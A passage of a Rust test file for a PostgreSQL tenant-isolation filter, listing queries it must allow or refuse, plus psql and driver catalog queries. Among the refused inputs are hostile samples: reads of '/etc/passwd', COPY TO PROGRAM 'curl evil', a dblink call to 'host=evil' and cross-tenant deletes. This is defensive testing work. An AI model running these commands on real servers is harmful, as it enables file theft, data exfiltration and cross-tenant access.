        "DO $$ BEGIN IF (SELECT count(*) FROM tenant_b.t) > 0 THEN RAISE NOTICE 'x'; END IF; END $$",
        X,
    ),
    ("DO $$ BEGIN EXECUTE 'DELETE FROM tenant_b.t'; END $$", X),
    (
        "DO $$ BEGIN EXECUTE 'DELETE FROM ' || 'tenant_b.t'; END $$",
        OK,
    ),
    (
        "DO $$ BEGIN EXECUTE format('DELETE FROM %I.t', 'tenant_b'); END $$",
        OK,
    ),
    ("DO $$ BEGIN SET search_path = tenant_b; END $$", SP),
    (
        "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$",
        FILES,
    ),
    (
        "DO LANGUAGE plpgsql $$ BEGIN UPDATE tenant_b.t SET v = 1; END $$",
        X,
    ),
    (
        "DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM tenant_b.t LOOP NULL; END LOOP; END $$",
        X,
    ),
    ("DO $$ BEGIN RETURN; END $$; SELECT * FROM tenant_b.t", X),
    ("DO $$ BEGIN SELEC 1; END $$", UNP),
    ("DO LANGUAGE plperl $$ print 1 $$", OK),
    (
        "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO audit VALUES (NEW.id); RETURN NEW; END $$",
        OK,
    ),
    (
        "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_b.audit VALUES (NEW.id); RETURN NEW; END $$",
        X,
    ),
    (
        "CREATE FUNCTION f(a tenant_a.t) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
        OK,
    ),
    (
        "CREATE FUNCTION f(a tenant_a.t) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN (SELECT count(*) FROM tenant_b.t); END $$",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS SETOF t LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT * FROM tenant_b.t'; END $$",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS SETOF t LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY SELECT * FROM t; END $$",
        OK,
    ),
    (
        "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$",
        OK,
    ),
    (
        "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.n := (SELECT count(*) FROM tenant_b.t); RETURN NEW; END $$",
        X,
    ),
    (
        "DO $$ DECLARE c CURSOR FOR SELECT * FROM tenant_b.t; BEGIN OPEN c; CLOSE c; END $$",
        X,
    ),
    (
        "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT * FROM tenant_b.t'; END $$",
        X,
    ),
    (
        "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR SELECT * FROM t; END $$",
        OK,
    ),
    ("DO $$ DECLARE v tenant_b.t%ROWTYPE; BEGIN NULL; END $$", X),
    (
        "DO $$ DECLARE v \"Tenant_B\".t%ROWTYPE; BEGIN NULL; END $$",
        X,
    ),
    ("DO $$ DECLARE v tenant_b.t.c%TYPE; BEGIN NULL; END $$", X),
    (
        "DO $$ DECLARE v tenant_a.t%ROWTYPE; w t.c%TYPE; BEGIN NULL; END $$",
        OK,
    ),
    // pg_query's PL/pgSQL compiler cannot resolve qualified plain types
    // outside pg_catalog/public: refused as unparsable (conservative).
    ("DO $$ DECLARE v tenant_b.mytype; BEGIN NULL; END $$", UNP),
    (
        "DO $x$ BEGIN EXECUTE $q$ DELETE FROM tenant_b.t $q$; END $x$",
        X,
    ),
    ("DO $x$ BEGIN EXECUTE E'DELETE FROM tenant_b.t'; END $x$", X),
    (
        "DO $x$ BEGIN EXECUTE 'DELETE FROM t WHERE id = $1' USING 1; END $x$",
        OK,
    ),
    // --- EXPLAIN, PREPARE, DECLARE, COPY -----------------------------------------------
    ("EXPLAIN SELECT * FROM tenant_b.t", X),
    ("EXPLAIN ANALYZE SELECT * FROM tenant_b.t", X),
    (
        "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) DELETE FROM tenant_b.t",
        X,
    ),
    ("EXPLAIN ANALYZE SELECT * FROM t", OK),
    (
        "EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM tenant_b.t",
        X,
    ),
    ("PREPARE q AS SELECT * FROM tenant_b.t", X),
    ("PREPARE q (int) AS SELECT * FROM t WHERE id = $1", OK),
    ("PREPARE q (tenant_b.mytype) AS SELECT $1", X),
    ("EXECUTE q (1)", OK),
    ("DEALLOCATE q", OK),
    ("DECLARE c CURSOR FOR SELECT * FROM tenant_b.t", X),
    ("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t", OK),
    ("FETCH 10 FROM c", OK),
    ("CLOSE c", OK),
    ("COPY t TO STDOUT", OK),
    (
        "COPY t (id, v) FROM STDIN WITH (FORMAT csv, FORCE_NOT_NULL (id, v))",
        OK,
    ),
    (
        "COPY t TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (id, v))",
        OK,
    ),
    ("COPY tenant_b.t TO STDOUT", X),
    ("COPY (SELECT * FROM tenant_b.t) TO STDOUT", X),
    ("COPY (SELECT * FROM t) TO STDOUT", OK),
    ("COPY t TO '/tmp/x'", FILES),
    ("COPY t FROM '/etc/passwd'", FILES),
    ("COPY t TO PROGRAM 'curl evil'", FILES),
    ("COPY t FROM PROGRAM 'id'", FILES),
    // --- server files, dynamic SQL, other tenants, listen/notify -----------------------
    ("SELECT pg_read_file('/etc/passwd')", FILES),
    (
        "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)",
        FILES,
    ),
    ("SELECT PG_READ_BINARY_FILE('x')", FILES),
    ("SELECT * FROM pg_ls_dir('.')", FILES),
    ("SELECT * FROM pg_ls_waldir()", FILES),
    ("SELECT * FROM pg_ls_logdir()", FILES),
    ("SELECT pg_stat_file('postgresql.conf')", FILES),
    ("SELECT lo_import('/etc/passwd')", FILES),
    ("SELECT lo_export(1234, '/tmp/x')", FILES),
    ("SELECT pg_file_write('x', 'y', false)", FILES),
    (
        "SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)",
        FILES,
    ),
    ("SELECT extensions.dblink_exec('host=x', 'select 1')", FILES),
    ("SELECT lo_create(0), lo_unlink(1234)", OK),
    ("SELECT x.pg_read_file FROM (SELECT 'x'::text) x", FILES),
    (
        "SELECT query_to_xml('select * from tenant_b.t', true, true, '')",
        DYN,
    ),
    (
        "SELECT query_to_xml_and_xmlschema('select 1', true, true, '')",
        DYN,
    ),
    ("SELECT cursor_to_xml('c', 10, true, true, '')", DYN),
    ("SELECT table_to_xml('t', true, true, '')", DYN),
    ("SELECT schema_to_xml('tenant_b', true, true, '')", DYN),
    ("SELECT database_to_xml(true, true, '')", DYN),
    (
        "SELECT * FROM ts_stat('SELECT vector FROM tenant_b.docs')",
        DYN,
    ),
    (
        "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM aliases')",
        DYN,
    ),
    (
        "SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)",
        OK,
    ),
    (
        "SELECT * FROM crosstab('select 1, 2, 3') AS ct(a int, b int)",
        DYN,
    ),
    ("SELECT xpath('/a', '<a/>'::xml)", OK),
    ("SELECT * FROM pg_stat_activity", OTH),
    (
        "SELECT query FROM pg_catalog.pg_stat_activity WHERE pid <> pg_backend_pid()",
        OTH,
    ),
    ("SELECT * FROM pg_stat_statements", OTH),
    ("SELECT * FROM extensions.pg_stat_statements", OTH),
    ("SELECT * FROM pg_locks", OTH),
    ("SELECT * FROM pg_stat_get_activity(NULL)", OTH),
    ("SELECT pg_terminate_backend(1234)", OTH),
    ("SELECT pg_cancel_backend(pid) FROM x", OTH),
    ("SELECT pg_backend_pid()", OK),
    ("SELECT * FROM pg_stat_progress_vacuum", OTH),
    ("LISTEN events", LN),
    ("UNLISTEN *", OK),
    ("NOTIFY events, 'x'", LN),
    ("SELECT pg_notify('events', 'x')", LN),
    // --- cluster administration, load, extensions --------------------------------------
    ("LOAD 'auto_explain'", LD),
    ("CHECKPOINT", ADM),
    ("CREATE TABLESPACE ts LOCATION '/tmp'", ADM),
    ("ALTER TABLESPACE ts RENAME TO ts2", ADM),
    ("ALTER TABLE t SET TABLESPACE pg_default", OK),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", ADM),
    ("CREATE FOREIGN DATA WRAPPER w", ADM),
    ("CREATE USER MAPPING FOR CURRENT_USER SERVER s", ADM),
    ("CREATE FOREIGN TABLE ft (id int) SERVER s", ADM),
    (
        "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO tenant_a",
        ADM,
    ),
    ("CREATE PUBLICATION p FOR ALL TABLES", ADM),
    (
        "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
        ADM,
    ),
    (
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        ADM,
    ),
    ("SECURITY LABEL ON TABLE t IS 'x'", ADM),
    // Without HANDLER, CREATE LANGUAGE is CREATE EXTENSION in disguise.
    ("CREATE LANGUAGE plperlu", EXT),
    ("CREATE LANGUAGE pl HANDLER h", ADM),
    ("CREATE CAST (int AS text) WITH FUNCTION f(int)", ADM),
    ("CREATE ACCESS METHOD am TYPE INDEX HANDLER h", ADM),
    (
        "CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 <",
        ADM,
    ),
    ("ALTER LANGUAGE plpgsql OWNER TO x", ADM),
    ("SELECT pg_reload_conf()", ADM),
    ("SELECT pg_stat_reset()", ADM),
    ("CREATE EXTENSION hstore", EXT),
    (
        "CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\" SCHEMA extensions",
        EXT,
    ),
    ("ALTER EXTENSION hstore UPDATE", EXT),
    ("ALTER EXTENSION hstore ADD FUNCTION f()", EXT),
    // --- transaction control and misc ----------------------------------------------------
    ("BEGIN", OK),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", OK),
    ("START TRANSACTION READ ONLY", OK),
    ("SAVEPOINT sp1", OK),
    ("ROLLBACK TO SAVEPOINT sp1", OK),
    ("RELEASE sp1", OK),
    ("COMMIT", OK),
    ("ROLLBACK", OK),
    ("PREPARE TRANSACTION 'x'", OK),
    ("SELECT pg_advisory_lock(42)", OK),
    ("SELECT 1.5 + 2.25, 'a.b', x.y FROM (SELECT 1 AS y) x", OK),
    ("SELECT E'tenant_b\\056t'::regclass", X),
    ("SELECT U&'tenant_b\\002Et'::regclass", X),
    ("SELECT U&'tenant_b!002Et' UESCAPE '!'::regclass", X),
    // --- ORMs, migrations and more quoting -------------------------------------------
    (
        "SELECT \"t\".* FROM \"t\" WHERE \"t\".\"id\" = $1 LIMIT $2",
        OK,
    ),
    (
        "CREATE TABLE \"schema_migrations\" (\"version\" character varying NOT NULL PRIMARY KEY)",
        OK,
    ),
    (
        "SELECT \"tenant_a\".\"User\".\"id\" FROM \"tenant_a\".\"User\"",
        OK,
    ),
    (
        "SELECT \"public\".\"User\".\"id\" FROM \"public\".\"User\"",
        X,
    ),
    ("SELECT \"tenant_b\".\"t\".\"id\" FROM t", X),
    ("SELECT * FROM tenant_b.\"T\"", X),
    (
        "SELECT COUNT(*) FROM \"tenant_a\".\"flyway_schema_history\"",
        OK,
    ),
    (
        "SELECT * FROM pg_catalog.pg_tables WHERE schemaname = 'tenant_b'",
        OK,
    ),
    (
        "SELECT pg_try_advisory_lock(1), pg_is_in_recovery(), pg_database_size(current_database())",
        OK,
    ),
    ("SELECT current_database(), current_user, version()", OK),
    (
        "SELECT * FROM XMLTABLE('/a' PASSING (SELECT x FROM tenant_b.t) COLUMNS a int)",
        X,
    ),
    (
        "SELECT * FROM JSON_TABLE('[]'::jsonb, '$[*]' COLUMNS (a tenant_b.mytype PATH '$.a')) jt",
        X,
    ),
    (
        "SELECT * FROM t WINDOW w AS (ORDER BY (SELECT 1 FROM tenant_b.t LIMIT 1))",
        X,
    ),
    (
        "SELECT * FROM t WHERE x = 'a' COLLATE \"tenant_b\".\"c\"",
        X,
    ),
    ("SET search_path = \"tenant_a, tenant_b\"", SP),
    ("SET search_path = tenant_a, \"$user\"", OK),
    (
        "SELECT set_config('search_path', 'tenant_a,tenant_b', false)",
        SP,
    ),
    ("SELECT set_config('search_path', 'tenant_a', false)", OK),
    ("SET role = tenant_b_role", ROL),
    ("SET session_authorization = tenant_b_role", SA),
    ("RESET session_authorization", OK),
    ("GRANT SELECT (id) ON t TO x", OK),
    ("GRANT ALL ON SEQUENCE tenant_b.s TO x", GR),
    ("ALTER VIEW v OWNER TO x", GR),
    ("ALTER SEQUENCE s OWNER TO CURRENT_USER", OK),
    ("ALTER TYPE mytype OWNER TO x", GR),
    ("ALTER INDEX tenant_b.i RENAME TO j", X),
    ("ALTER TABLE t RENAME CONSTRAINT a TO b", OK),
    ("DROP OPERATOR CLASS oc USING btree", OK),
    ("DROP OPERATOR CLASS tenant_b.oc USING btree", X),
    ("DROP AGGREGATE tenant_b.agg(int)", X),
    ("DROP CAST (int AS text)", ADM),
    (
        "CREATE INDEX i ON t USING gin (v extensions.gin_trgm_ops)",
        OK,
    ),
    ("CREATE INDEX i ON t USING gin (v gin_trgm_ops)", OK),
    ("SELECT nextval(regclass => 'tenant_b.s')", X),
    (
        "CREATE RULE r AS ON UPDATE TO t DO INSTEAD NOTIFY t_changed",
        LN,
    ),
    (
        "CREATE TABLE t3 (x text DEFAULT pg_read_file('/etc/passwd'))",
        FILES,
    ),
    ("SELECT to_regclass('tenant_b.t') IS NOT NULL", X),
    (
        "CREATE TABLE p (x text) PARTITION BY RANGE (x COLLATE tenant_b.c)",
        X,
    ),
    (
        "CREATE TABLE p (x text) PARTITION BY RANGE (x tenant_b.ops)",
        X,
    ),
    (
        "CREATE TABLE p (x text) PARTITION BY RANGE (x COLLATE \"C\")",
        OK,
    ),
    // --- column lists that must not look like qualified names ----------------------------
    ("CREATE TABLE t4 (a int, b int, PRIMARY KEY (a, b))", OK),
    (
        "ALTER TABLE t ADD CONSTRAINT c UNIQUE (a, b) INCLUDE (c, d)",
        OK,
    ),
    (
        "CREATE TABLE t4 (a int, b int, FOREIGN KEY (a, b) REFERENCES u (c, d) ON DELETE SET NULL (a, b))",
        OK,
    ),
    (
        "WITH RECURSIVE r(a, b) AS (SELECT 1, 2 UNION ALL SELECT a + 1, b FROM r WHERE a < 3) SEARCH DEPTH FIRST BY a, b SET o SELECT * FROM r",
        OK,
    ),
    (
        "WITH RECURSIVE r(a, b) AS (SELECT 1, 2 UNION ALL SELECT a + 1, b FROM r) CYCLE a, b SET c USING p SELECT * FROM r",
        OK,
    ),
    ("SELECT * FROM t AS x(a, b)", OK),
    ("UPDATE t SET (a, b) = (1, 2)", OK),
    ("GRANT UPDATE (a, b) ON t TO x", OK),
    ("ANALYZE t (a, b)", OK),
    ("ANALYZE tenant_b.t (a, b)", X),
    ("DROP TABLE a, b", OK),
    (
        "CREATE TYPE r AS RANGE (subtype = float8, subtype_diff = float8mi)",
        OK,
    ),
    (
        "COPY t FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER ',')",
        OK,
    ),
    ("CREATE TABLE t5 (a, b) AS SELECT 1, 2", OK),
    (
        "SELECT xmlelement(name foo, xmlattributes(a AS x, b AS y)) FROM t",
        OK,
    ),
    // --- text that does not parse --------------------------------------------------------
    ("SELEC 1", OK),
    ("SELECT FROM WHERE", OK),
    ("SELECT * FROM tenant_b.t WHERE", UNP),
    ("SELEC * FROM tenant_a.t", UNP),
    ("SET ROLE TO TO x", UNP),
    ("SELECT 'unterminated", OK),
];

/// Catalog queries sent by psql 15 for \d, \dt, \d <table>, \dn, \df, \l, \du
/// (captured with `psql -E` against a scratch server). All must pass.
pub const PSQL15: &[&str] = &[
    // psql_d.txt
    r#"SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','v','m','S','f','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;"#,
    // psql_df.txt
    r#"SELECT n.nspname as "Schema",
  p.proname as "Name",
  pg_catalog.pg_get_function_result(p.oid) as "Result data type",
  pg_catalog.pg_get_function_arguments(p.oid) as "Argument data types",
 CASE p.prokind
  WHEN 'a' THEN 'agg'
  WHEN 'w' THEN 'window'
  WHEN 'p' THEN 'proc'
  ELSE 'func'
 END as "Type"
FROM pg_catalog.pg_proc p
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = p.pronamespace
WHERE pg_catalog.pg_function_is_visible(p.oid)
      AND n.nspname <> 'pg_catalog'
      AND n.nspname <> 'information_schema'
ORDER BY 1, 2, 4;"#,
    // psql_dn.txt
    r#"SELECT n.nspname AS "Name",
  pg_catalog.pg_get_userbyid(n.nspowner) AS "Owner"
FROM pg_catalog.pg_namespace n
WHERE n.nspname !~ '^pg_' AND n.nspname <> 'information_schema'
ORDER BY 1;"#,
    // psql_dt.txt
    r#"SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;"#,
    // psql_dtable.txt
    r#"SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default
  AND n.nspname OPERATOR(pg_catalog.~) '^(tenant_a)$' COLLATE pg_catalog.default
ORDER BY 2, 3;"#,
    // psql_dtable.txt
    r#"SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '16385';"#,
    // psql_dtable.txt
    r#"SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16385' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;"#,
    // psql_dtable.txt
    r#"SELECT c2.relname, i.indisprimary, i.indisunique, i.indisclustered, i.indisvalid, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true),
  pg_catalog.pg_get_constraintdef(con.oid, true), contype, condeferrable, condeferred, i.indisreplident, c2.reltablespace
FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i
  LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid AND contype IN ('p','u','x'))
WHERE c.oid = '16385' AND c.oid = i.indrelid AND i.indexrelid = c2.oid
ORDER BY i.indisprimary DESC, c2.relname;"#,
    // psql_dtable.txt
    r#"SELECT pol.polname, pol.polpermissive,
  CASE WHEN pol.polroles = '{0}' THEN NULL ELSE pg_catalog.array_to_string(array(select rolname from pg_catalog.pg_roles where oid = any (pol.polroles) order by 1),',') END,
  pg_catalog.pg_get_expr(pol.polqual, pol.polrelid),
  pg_catalog.pg_get_expr(pol.polwithcheck, pol.polrelid),
  CASE pol.polcmd
    WHEN 'r' THEN 'SELECT'
    WHEN 'a' THEN 'INSERT'
    WHEN 'w' THEN 'UPDATE'
    WHEN 'd' THEN 'DELETE'
    END AS cmd
FROM pg_catalog.pg_policy pol
WHERE pol.polrelid = '16385' ORDER BY 1;"#,
    // psql_dtable.txt
    r#"SELECT oid, stxrelid::pg_catalog.regclass, stxnamespace::pg_catalog.regnamespace::pg_catalog.text AS nsp, stxname,
pg_catalog.pg_get_statisticsobjdef_columns(oid) AS columns,
  'd' = any(stxkind) AS ndist_enabled,
  'f' = any(stxkind) AS deps_enabled,
  'm' = any(stxkind) AS mcv_enabled,
stxstattarget
FROM pg_catalog.pg_statistic_ext
WHERE stxrelid = '16385'
ORDER BY nsp, stxname;"#,
    // psql_dtable.txt
    r#"SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_namespace pn ON p.oid = pn.pnpubid
     JOIN pg_catalog.pg_class pc ON pc.relnamespace = pn.pnnspid
WHERE pc.oid ='16385' and pg_catalog.pg_relation_is_publishable('16385')
UNION
SELECT pubname
     , pg_get_expr(pr.prqual, c.oid)
     , (CASE WHEN pr.prattrs IS NOT NULL THEN
         (SELECT string_agg(attname, ', ')
           FROM pg_catalog.generate_series(0, pg_catalog.array_upper(pr.prattrs::pg_catalog.int2[], 1)) s,
                pg_catalog.pg_attribute
          WHERE attrelid = pr.prrelid AND attnum = prattrs[s])
        ELSE NULL END) FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_rel pr ON p.oid = pr.prpubid
     JOIN pg_catalog.pg_class c ON c.oid = pr.prrelid
WHERE pr.prrelid = '16385'
UNION
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
WHERE p.puballtables AND pg_catalog.pg_relation_is_publishable('16385')
ORDER BY 1;"#,
    // psql_dtable.txt
    r#"SELECT c.oid::pg_catalog.regclass
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhparent AND i.inhrelid = '16385'
  AND c.relkind != 'p' AND c.relkind != 'I'
ORDER BY inhseqno;"#,
    // psql_dtable.txt
    r#"SELECT c.oid::pg_catalog.regclass, c.relkind, inhdetachpending, pg_catalog.pg_get_expr(c.relpartbound, c.oid)
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhrelid AND i.inhparent = '16385'
ORDER BY pg_catalog.pg_get_expr(c.relpartbound, c.oid) = 'DEFAULT', c.oid::pg_catalog.regclass::pg_catalog.text;"#,
    // psql_du.txt
    r#"SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil,
  ARRAY(SELECT b.rolname
        FROM pg_catalog.pg_auth_members m
        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
        WHERE m.member = r.oid) as memberof
, r.rolreplication
, r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;"#,
    // psql_l.txt
    r#"SELECT d.datname as "Name",
       pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
       pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
       d.datcollate as "Collate",
       d.datctype as "Ctype",
       d.daticulocale as "ICU Locale",
       CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
       pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;"#,
];

/// Introspection queries of common drivers and ORMs. All must pass.
pub const DRIVERS: &[&str] = &[
    // tokio-postgres type lookup
    "SELECT t.typname, t.typtype, t.typelem, r.rngsubtype, t.typbasetype, n.nspname, t.typrelid FROM pg_catalog.pg_type t LEFT OUTER JOIN pg_catalog.pg_range r ON r.rngtypid = t.oid INNER JOIN pg_catalog.pg_namespace n ON t.typnamespace = n.oid WHERE t.oid = $1",
    "SELECT enumlabel FROM pg_catalog.pg_enum WHERE enumtypid = $1 ORDER BY enumsortorder",
    "SELECT attname, atttypid FROM pg_catalog.pg_attribute WHERE attrelid = $1 AND NOT attisdropped AND attnum > 0 ORDER BY attnum",
    // psycopg 3 TypeInfo.fetch
    "SELECT typname AS name, oid, typarray AS array_oid, oid::regtype::text AS regtype, typdelim AS delimiter FROM pg_type t WHERE t.oid = to_regtype($1) ORDER BY t.oid",
    // asyncpg
    "SELECT t.oid, t.typelem AS elemtype, t.typtype AS kind FROM pg_catalog.pg_type AS t INNER JOIN pg_catalog.pg_namespace AS ns ON (ns.oid = t.typnamespace) WHERE t.typname = $1 AND ns.nspname = $2",
    // pgjdbc
    "SELECT n.nspname = ANY(current_schemas(true)), n.nspname, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n ON t.typnamespace = n.oid WHERE t.oid = $1",
    // Rails
    "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, c.collname, col_description(a.attrelid, a.attnum) AS comment, attidentity AS identity, attgenerated as attgenerated FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid LEFT JOIN pg_collation c ON a.attcollation = c.oid AND a.attcollation <> t.typcollation WHERE a.attrelid = '\"t\"'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
    "SELECT a.attname FROM pg_attribute a WHERE a.attrelid = 'tenant_a.t'::regclass",
    // Django
    "SELECT c.relname, CASE WHEN c.relispartition THEN 'p' WHEN c.relkind IN ('m', 'v') THEN 'v' ELSE 't' END, obj_description(c.oid, 'pg_class') FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('f', 'm', 'p', 'r', 'v') AND n.nspname NOT IN ('pg_catalog', 'pg_toast') AND pg_catalog.pg_table_is_visible(c.oid)",
    // Prisma, SQLAlchemy, pg_dump preamble
    "SELECT EXISTS(SELECT 1 FROM pg_namespace WHERE nspname = $1)",
    "select pg_catalog.version()",
    "select current_schema()",
    "show standard_conforming_strings",
    "SELECT pg_catalog.set_config('search_path', '', false);",
    "SET statement_timeout = 0; SET lock_timeout = 0; SET client_encoding = 'UTF8'; SET standard_conforming_strings = on; SELECT pg_catalog.set_config('search_path', '', false); SET check_function_bodies = false; SET xmloption = content; SET client_min_messages = warning; SET row_security = off;",
    "SELECT * FROM information_schema.tables WHERE table_schema = current_schema()",
    "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = $1",
];
